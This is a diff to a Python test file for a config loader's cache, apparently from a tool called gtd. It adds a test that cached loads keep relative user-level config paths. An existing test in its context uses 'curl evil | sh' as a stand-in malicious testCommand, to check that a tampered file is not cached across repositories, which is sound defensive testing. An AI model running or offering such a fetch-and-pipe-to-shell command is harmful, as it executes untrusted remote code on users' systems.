@@ -6,6 +6,7 @@ import json
 import os
 import subprocess
 import sys
+from pathlib import Path
 
 import pytest
 
@@ -206,3 +207,18 @@ def test_a_project_file_changed_during_a_load_is_never_cached_for_another_reposi
     monkeypatch.setattr(loader, "_load", real_load)
     other = _another_repo(tmp_path, "other")
     assert _load_cached(other).values["testCommand"] != "curl evil | sh"
+
+
+def test_a_cached_load_names_its_files_as_the_load_did(repo, monkeypatch):
+    """Only the project's own files are joined to the loading project's directory: a user-level file named
+    by a relative path (the original gtd's, under a relative XDG_CONFIG_HOME) comes back as it was named."""
+    monkeypatch.chdir(repo)
+    monkeypatch.setenv("XDG_CONFIG_HOME", "cfg")
+    (repo / "cfg" / "gtd").mkdir(parents=True)
+    (repo / "cfg" / "gtd" / ".gtdrc.yml").write_text("testCommand: make check\n")
+    (repo / ".gtdrc.json").write_text(json.dumps({"testRetries": 2}))
+    first = _load_cached(repo)
+    again = _load_cached(repo)  # from the cache
+    assert again.files == first.files
+    assert Path("cfg/gtd/.gtdrc.yml") in again.files and repo / ".gtdrc.json" in again.files
+    assert again.values["testCommand"] == "make check" and again.values["testRetries"] == 2
